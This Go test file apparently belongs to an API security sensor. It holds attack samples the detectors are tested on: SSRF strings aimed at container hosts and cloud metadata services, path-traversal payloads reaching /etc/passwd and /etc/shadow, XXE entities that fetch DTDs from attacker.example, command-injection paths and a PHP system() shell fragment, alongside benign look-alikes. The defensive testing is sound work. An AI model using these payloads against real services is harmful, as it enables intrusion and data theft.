package tier1

import (
	"slices"
	"strings"
	"testing"

	"github.com/apisensor/sensor/decoders"
)

// SSRF to internal host aliases and URL parser confusion, evasive
// traversal spellings, and XML inclusion outside an XML body; and the
// values near them that are no attack.
func init() {
	attacks = append(attacks,
		// A host alias with a path is a URL without its scheme, whatever
		// the parameter is called.
		attackEntry{lQ, "q", "host.docker.internal/v1.41/containers/json", "ssrf-loopback", encAll},
		attackEntry{lJ, "comment", "kubernetes.default.svc/api/v1/secrets", "ssrf-loopback", encURL},
		attackEntry{lQ, "next", "ip6-localhost/admin", "ssrf-loopback", encURL},
		attackEntry{lF, "feedback", "lvh.me:9200/_cat/indices", "ssrf-loopback", 0},
		attackEntry{lC, "last_site", "gateway.docker.internal/", "ssrf-loopback", 0},
		// An internal name with a port alone.
		attackEntry{lJ, "target", "host.containers.internal:2375", "ssrf-loopback", 0},
		attackEntry{lJ, "sync.peer", "kubernetes.docker.internal:6443", "ssrf-loopback", encURL},
		// Metadata services of other clouds.
		attackEntry{lQ, "u", "http://metadata.packet.net/metadata", "ssrf-metadata", encAll},
		attackEntry{lJ, "hook", "http://metadata.tencentyun.com/latest/meta-data/", "ssrf-metadata", 0},
		// A link-local address with an IPv6 zone.
		attackEntry{lQ, "u", "http://[fe80::1%eth0]:8080/", "ssrf-link-local", encURL},
		attackEntry{lQ, "u", "http://[fe80::a00:27ff:fe4e:66a1%25en0]/", "ssrf-link-local", 0},
		// A public address written as one integer.
		attackEntry{lQ, "img", "http://3627734734/x.png", "ssrf-encoded-ip", encURL},
		attackEntry{lJ, "src", "https:0x5db8d822", "ssrf-encoded-ip", 0},
		// A user info in the first path segment.
		attackEntry{lQ, "page", "http://trusted.example/:x@attacker.example/shell.txt", "rfi", encAll},
		attackEntry{lJ, "template", "https://cdn.example.com/:a@b@attacker.example/inc", "rfi", 0},

		// Traversal with a Windows separator or a path parameter.
		attackEntry{lQ, "file", `..\secrets.kdbx`, "path-traversal", encAll},
		attackEntry{lC, "theme", `..\..\inetpub\logs`, "path-traversal", encURL},
		attackEntry{lQ, "doc", "..;/manager/html", "path-traversal", encURL},
		// Traversal spelled in hex codes.
		attackEntry{lQ, "f", "0x2e0x2e0x2fconfig.php", "path-traversal", encAll},
		attackEntry{lJ, "path", "0x2e0x2e0x5c0x2e0x2e0x5cboot.ini", "path-traversal", encURL},
		attackEntry{lQ, "f", "0x5c..0x5c", "path-traversal", encURL},
		// NUL bytes a filter strips, "." segments path resolution drops, and
		// one step to a system file.
		attackEntry{lJ, "path", "\x00../\x00../etc/passwd", "path-traversal", 0},
		attackEntry{lJ, "path", ".\x00./.\x00./etc/shadow", "path-traversal", 0},
		attackEntry{lJ, "path", "../../boot.ini\x00index.html", "path-traversal", 0},
		attackEntry{lX, "/f", "\n..\\x.7z", "path-traversal", 0},
		attackEntry{lQ, "f", "/./././././etc/passwd", "lfi-sensitive-file", encAll},
		attackEntry{lQ, "f", "index.php::$DATA", "lfi-sensitive-file", encAll},
		attackEntry{lQ, "f", "../etc/passwd", "path-traversal", encAll},
		// A backslash escaping a step's dot, a stray '%' before a step
		// (IIS), the ASP application file.
		attackEntry{lQ, "f", `.\./.\./.\./etc/passwd`, "path-traversal", encAll},
		attackEntry{lJ, "f", `.\\./.\\./.\\./etc/shadow`, "path-traversal", 0},
		attackEntry{lQ, "f", `/%\..%\..%\..%\..winnt/desktop.ini`, "path-traversal", encURL},
		attackEntry{lQ, "f", `C:\inetpub\wwwroot\global.asa`, "lfi-sensitive-file", encAll},
		// The Vite dev server's virtual-module endpoint.
		attackEntry{lP, "0", "/@id/__x00__virtual:env", "lfi-sensitive-file", encURL},
		// A redirection that drops a file into /tmp.
		attackEntry{lQ, "q", ">/tmp/x.sh", "lfi-sensitive-file", encAll},
		attackEntry{lJ, "cmd", ">>/tmp/.cache", "lfi-sensitive-file", encURL},

		// Loopback URLs and sensitive paths with code around them, file
		// URLs with one slash or a drive.
		attackEntry{lJ, "note", "fetch=http://127.0.0.1:2375/containers/json", "ssrf-loopback", encURL},
		attackEntry{lQ, "q", "x\" src=\"http://localhost/admin", "ssrf-loopback", encURL},
		attackEntry{lQ, "q", "see the file ../../../etc/passwd now", "path-traversal", encURL},
		attackEntry{lQ, "q", "file=/etc/shadow and more", "lfi-sensitive-file", encURL},
		attackEntry{lJ, "src", "file:/etc/passwd", "ssrf-scheme", encURL},
		attackEntry{lJ, "src", "FILE:C:/windows/win.ini", "ssrf-scheme", 0},

		// XInclude and external parameter entities in data parameters.
		attackEntry{lQ, "xml", `<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></doc>`, "xxe-external-entity", encURL},
		attackEntry{lJ, "svg", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="http://attacker.example/a"/></svg>`, "xxe-external-entity", encURL},
		attackEntry{lF, "data", `<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;`, "xxe-external-entity", encURL},
		// A SAML response posted to an assertion consumer (form-encoded,
		// as browsers post it): base64 of XML with an external parameter
		// entity.
		attackEntry{lF, "SAMLResponse", "PD94bWwgdmVyc2lvbj0iMS4wIj8%2BPCFET0NUWVBFIHIgWzwhRU5USVRZICUgeCBTWVNURU0gImh0dHA6Ly9vYXN0LmV4YW1wbGUvcy5kdGQiPiV4O10%2BPHNhbWxwOlJlc3BvbnNlLz4%3D", "xxe-external-entity", 0},
		attackEntry{lH, "user-agent", `<!DOCTYPE x [<!ENTITY % e SYSTEM "http://attacker.example/x.dtd"> %e;]>`, "xxe-external-entity", 0},
		attackEntry{lH, "x-soap-header", `<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></a>`, "xxe-external-entity", 0},
		attackEntry{lQ, "q", "x!ENTITY % p PUBLIC", "xxe-external-entity", encURL},
		attackEntry{lC, "state", `<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/hostname" parse="text"/></r>`, "xxe-external-entity", encURL},
		attackEntry{lP, "3", `<!ENTITY % d SYSTEM "http://attacker.example/d.dtd">`, "xxe-external-entity", encURL},
	)
	benign = append(benign,
		// Relative links and "." segments without a system file.
		corpusEntry{lJ, "img", "../images/logo.png"},
		corpusEntry{lJ, "note", `Put the handler in Global.asax.cs, see .\docs\setup.md`},
		corpusEntry{lJ, "file", `WebApp/Global.asax.cs`},
		corpusEntry{lJ, "file", `src\MyApp\Global.asax.cs`},
		corpusEntry{lQ, "q", "100% ..."},
		corpusEntry{lQ, "path", "./etc/app.conf"},
		corpusEntry{lJ, "note", "See ./docs/./setup.md for details"},
		corpusEntry{lJ, "code", "return self::$data;"},
		corpusEntry{lJ, "code", "static::$data['x']=1;"},
		corpusEntry{lJ, "note", "see /etc/services for port names"},
		// Hosts in prose, hosts without a path or port, public hosts.
		corpusEntry{lQ, "q", "host.docker.internal"},
		corpusEntry{lQ, "q", "how do I reach host.docker.internal from a container?"},
		corpusEntry{lJ, "message", "Run it with curl localhost:8080/health and check the logs"},
		corpusEntry{lJ, "body", "localhost:3000"},
		corpusEntry{lJ, "body", "10/2"},
		corpusEntry{lQ, "q", "api.example.com/v2/users"},
		corpusEntry{lJ, "note", "2024/05/01"},
		corpusEntry{lH, "x-forwarded-host", "localhost/"},
		// Public addresses and ordinary URLs.
		corpusEntry{lQ, "u", "http://203.0.113.7:8080/status"},
		corpusEntry{lQ, "u", "http://12345/"},
		corpusEntry{lJ, "profile", "https://mastodon.social/@alice@example.org"},
		corpusEntry{lJ, "profile", "https://www.youtube.com/@some.channel/videos"},
		corpusEntry{lJ, "room", "https://matrix.to/#/@alice:matrix.org"},
		corpusEntry{lJ, "route", "https://api.example.com/users/:id"},
		corpusEntry{lJ, "peer", "[fe80::1%eth0]"},
		// Relative paths and hex values.
		corpusEntry{lQ, "file", "../images/logo.png"},
		corpusEntry{lJ, "message", "Source: ../../cmd/compile/internal/types2/api.go"},
		corpusEntry{lQ, "q", "Keep in sync with ../../test/noinit.go"},
		corpusEntry{lJ, "color", "0x2e2e2f"},
		corpusEntry{lJ, "bytes", "0x2f 0x2e 0x5c are the slash, the dot and the backslash"},
		corpusEntry{lQ, "q", "C:\\Users\\bob\\..\\alice"},
		corpusEntry{lJ, "message", "exec >/var/tmp/1"},
		corpusEntry{lJ, "message", "go test ./... > /tmp/out.txt"},
		corpusEntry{lQ, "q", "vite /@id/ virtual modules"},
		// Loopback URLs, sensitive paths and FILE:LINE quoted in prose.
		corpusEntry{lJ, "message", "benchmark it with wrk -t 1 -c 1 http://localhost:8080/"},
		corpusEntry{lQ, "q", `Get "http://127.0.0.1:58079": read tcp 127.0.0.1:58079: connection refused`},
		corpusEntry{lJ, "message", "Format of /etc/group is name:password:GID:members"},
		corpusEntry{lJ, "message", "look the user up in the /etc/passwd file or in LDAP"},
		corpusEntry{lQ, "q", "the value is output as FILE:LINE."},
		// XML talk that declares nothing.
		corpusEntry{lJ, "message", "its own character names with <!ENTITY ...> directives."},
		corpusEntry{lJ, "message", "Enable XInclude with xmllint --xinclude"},
		corpusEntry{lJ, "ns", "http://www.w3.org/2001/XInclude"},
	)
}

// TestBareHost covers the host-with-a-path or port shape.
func TestBareHost(t *testing.T) {
	tests := []struct {
		in, host string
		path     bool
	}{
		{"localhost/", "localhost", true},
		{"  lvh.me:8080/x ", "lvh.me:8080", true},
		{"host.docker.internal:2375", "host.docker.internal:2375", false},
		{"localhost", "", false},
		{"localhost:", "", false},
		{"localhost:http", "", false},
		{"a b/", "", false},
		{"/x", "", false},
		{"x_y/", "", false},
	}
	for _, tt := range tests {
		h, p := bareHost(tt.in)
		if h != tt.host || p != tt.path {
			t.Errorf("bareHost(%q) = %q, %v; want %q, %v", tt.in, h, p, tt.host, tt.path)
		}
	}
}

// TestWhatwgSlashes: backslashes become slashes only inside a URL of a
// special scheme, from the scheme to a blank, a quote or an angle bracket.
func TestWhatwgSlashes(t *testing.T) {
	tests := []struct{ in, want string }{
		{`http:\\127.0.0.1\admin`, `http://127.0.0.1/admin`},
		{`see http://127.0.0.1\@evil.example/ and C:\dir`, `see http://127.0.0.1/@evil.example/ and C:\dir`},
		{`ws:\\10.0.0.1\x "a\b"`, `ws://10.0.0.1/x "a\b"`},
		{`xhttp:\\127.0.0.1\a`, ``},
		{`^https?:\/\/localhost`, ``},
		{`localhost\http`, ``},
		{`file:\\server\share http://example.com`, ``},
		{`no backslash http://a/`, ``},
	}
	for _, tt := range tests {
		got, ok := whatwgSlashes(tt.in)
		if want := tt.want != ""; ok != want || ok && got != tt.want {
			t.Errorf("whatwgSlashes(%q) = %q, %v; want %q", tt.in, got, ok, tt.want)
		}
	}
}

// TestTraversalPath: dot segments left in a request's path, which the
// decoder splits into lone ".." segments, are a traversal when a dot is
// encoded (once, twice, or as %%32%65), a step carries a path parameter
// (Tomcat's "..;"), there are two steps or more, or a sensitive file
// follows; a single plain "/../" and names with dots are not. A restricted
// file the path names itself is a sensitive path.
func TestTraversalPath(t *testing.T) {
	tests := []pathCase{
		{"/a/../../../etc/passwd", "path-traversal"},
		{"/a/../etc/passwd", "path-traversal"},
		{"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "path-traversal"},
		{"/icons/.%%32%65/.%%32%65/etc/passwd", "path-traversal"},
		{"/a/%252e%252e/x", "path-traversal"},
		{"/a/%2E%2E/x", "path-traversal"},
		{"/manager/..;/html", "path-traversal"},
		{"/api/v1/..;jsessionid=1/admin", "path-traversal"},
		{"/.env", "lfi-sensitive-file"},
		{"/app/.git/config", "lfi-sensitive-file"},
		{"/WEB-INF/web.xml", "lfi-sensitive-file"},
		{"/%2eaws/credentials", "lfi-sensitive-file"},
		{"/a/../b", ""},
		{"/v1/items/..", ""},
		{"/a/...b/c", ""},
		{"/files/report..final.pdf", ""},
		{"/a/%2e/b", ""},
		{"/.well-known/openid-configuration", ""},
		{"/wp-json/wp/v2/posts", ""},
		{"/static/app.3f2a.js", ""},
		{"/api/v1/items/A.%20Yes.%20I%20was%20asked%20not%20to%20touch%20/etc/issue", ""},
	}
	checkPathRules(t, tests)
}

// TestSSRFPath: a URL written into the request path, which its slashes
// split over several segments, is checked as a whole.
func TestSSRFPath(t *testing.T) {
	tests := []pathCase{
		{"/proxy/http://169.254.169.254/latest/meta-data/", "ssrf-metadata"},
		{"/fetch/http://127.0.0.1:8080/admin", "ssrf-loopback"},
		{"/redirect/http:/localhost/", "ssrf-loopback"},
		{"/fetch/gopher://10.0.0.1:6379/_x", "ssrf-scheme"},
		{"/fetch/http:/\\127.0.0.1/admin", "ssrf-loopback"},
		{"/proxy/https://example.com/x", ""},
		{"/a/b:/c", ""},
	}
	checkPathRules(t, tests)
}

// pathCase is a request path and the one rule it raises ("": none).
type pathCase struct{ path, want string }

// checkPathRules sends a GET of each path, its parameters extracted as the
// decoders do, through the families.
func checkPathRules(t *testing.T, tests []pathCase) {
	t.Helper()
	ds := allDetectors(t)
	for _, tt := range tests {
		x := exchange()
		x.Request.Method, x.Request.URI, x.Request.Path = "GET", tt.path, tt.path
		decoders.ExtractParams(x, nil)
		var got []string
		for _, a := range inspectAll(ds, x) {
			got = append(got, a.RuleId)
		}
		if want := []string{tt.want}; tt.want == "" && len(got) != 0 || tt.want != "" && !slices.Equal(got, want) {
			t.Errorf("%s: %v, want %q", tt.path, got, tt.want)
		}
	}
}

// TestPathEnd covers payloads appended to a route with their slashes
// (wholePath): the segments alone say nothing, the end of the path does.
func TestPathEnd(t *testing.T) {
	tests := []pathCase{
		{"/api/v1/files/cat%20/home/app/notes.txt", "cmdi"},
		{"/api/v1/files/cat%20/%5B%3F%5Dtc/pa%5B%3F%5Dswd", "cmdi"},
		{"/api/v1/files//etc/%5Bp%5Dasswd", "cmdi"},
		{"/api/v1/exec/127.0.0.1;ls%20-la%20/home/app", "cmdi"},
		{"/api/v1/files/FOR%20/F%20%25G%20IN%20('dir%20/b')%20DO%20echo%20%25G", "cmdi"},
		{"/api/v1/items/%3C%3Fphp%20system($_GET%5Bc%5D);%20%3F%3E/x", "php-injection"},
		// A route the server reads otherwise than its bytes: an encoded
		// letter, a path parameter, a dot segment, an encoded slash, an
		// empty segment, an address in a segment.
		{"/api/v1/%66iles/cat%20/home/app/notes.txt", "cmdi"},
		{"/api/v1/files;x=1/cat%20/home/app/notes.txt", "cmdi"},
		{"/api/v1/files/%2e/cat%20/home/app/notes.txt", "cmdi"},
		{"/api%2Fv1/files/cat%20/home/app/notes.txt", "cmdi"},
		{"/api/v1/files//cat%20/home/app/notes.txt", "cmdi"},
		{"/api/v1/%66iles//etc/%5Bp%5Dasswd", "cmdi"},
		{"/api/v1/users/a@b.example/files/cat%20/home/app/notes.txt", "cmdi"},
		// What a segment's bytes hid: a separator that is no path
		// parameter, a '+' for a space, a wrapper's scheme.
		{"/api/v1/files/www.example.com;cat%20/home/app/$(echo)notes.txt", "cmdi"},
		{"/api/v1/files/cat+/ho*/a*/notes.txt", "cmdi"},
		{"/api/v1/files/;ls%20-la%20/home/app", "cmdi"},
		{"/api/v1/files;jsessionid=1/v2/list", ""},
		{"/v1/projects/p1/items:batchGet", ""},
		{"/api/v1/files/php://stdout/x", "php-injection"},
		// An odd segment before the payload, path parameters without '=',
		// a dot segment after a space.
		{"/api/v1/projects/My%20Project/files/cat%20/home/app/notes.txt", "cmdi"},
		{"/api/v1/users/J%C3%BCrgen/files/cat%20/home/app/notes.txt", "cmdi"},
		{"/api/v1/projects/My%20Project/files//etc/%5Bp%5Dasswd", "cmdi"},
		{"/api/v1/files;/cat%20/home/app/notes.txt", "cmdi"},
		{"/api/v1/files;a/cat%20/home/app/notes.txt", "cmdi"},
		{"/api/v1/files;jsessionid=ABC!123/cat%20/home/app/notes.txt", "cmdi"},
		{"/api/v1/users/J%C3%BCrgen/orders/7", ""},
		{"/api/v1/projects/My%20Project/files/report.pdf", ""},
		{"/api/v1/files//var/run/docker.sock", "ssrf-runtime-socket"},
		{"/api/v1/proxy/unix:%2F%2F%2Fvar%2Frun%2Fdocker.sock:/containers/json", "ssrf-runtime-socket"},
		// Plain segments, and a single segment checked as such.
		{"/api/v1/users/123/orders/550e8400-e29b-41d4-a716-446655440000", ""},
		{"/api/v1/files/report%20(final).pdf", ""},
		{"/api/v1/search/o'neil/reviews", ""},
		{"/api/v1/docs/how%20to%20cat%20a%20file/1", ""},
	}
	checkPathRules(t, tests)
}

// TestPathEndNotRemembered checks that the end of a path checked without
// a family (which had found something elsewhere in its exchange) is not
// remembered clean for the next exchange with the same path.
func TestPathEndNotRemembered(t *testing.T) {
	ds := allDetectors(t)
	const path = "/api/v1/files/cat%20/home/app/notes.txt"
	for i, query := range []string{"host=x;cat%20/home/app/a.txt", ""} {
		x := exchange()
		x.Request.Method, x.Request.Path = "GET", path
		x.Request.URI = path
		if query != "" {
			x.Request.URI += "?" + query
		}
		x.Request.Query = query
		decoders.ExtractParams(x, nil)
		var got []string
		for _, a := range inspectAll(ds, x) {
			got = append(got, a.RuleId)
		}
		if !slices.Contains(got, "cmdi") {
			t.Errorf("exchange %d (query %q): %v, want cmdi", i, query, got)
		}
	}
}

func TestIndexFold(t *testing.T) {
	for _, tc := range []struct {
		s    string
		want bool
	}{
		{"/var/run/docker.sock", true}, {"/VAR/RUN/DOCKER.SOCK", true}, {"a.So", false}, {".sock", true},
		{"x.socks", true}, {"", false}, {"....sock", true}, {"/a.b.c.d", false}, {".soc", false},
	} {
		if got := indexFold(tc.s, ".sock") >= 0; got != tc.want {
			t.Errorf("indexFold(%q, .sock) = %v, want %v", tc.s, got, tc.want)
		}
		if got, want := indexFold(strings.ToUpper(tc.s)+"classLoader", "classloader"), len(tc.s); got != want {
			t.Errorf("indexFold(%q, classloader) = %d, want %d", strings.ToUpper(tc.s)+"classLoader", got, want)
		}
	}
}
